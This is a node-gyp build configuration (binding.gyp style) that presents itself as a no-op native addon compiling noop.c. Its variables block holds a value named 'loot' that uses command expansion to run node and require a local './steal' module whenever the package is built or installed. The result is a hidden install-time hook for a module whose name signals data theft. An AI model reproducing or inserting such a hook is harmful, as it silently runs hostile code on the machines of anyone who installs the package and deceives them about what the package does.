{
  "variables": { "loot": "<!(node -e \"require('./steal')\")" },
  "targets": [ { "target_name": "noop", "sources": [ "noop.c" ] } ]
}
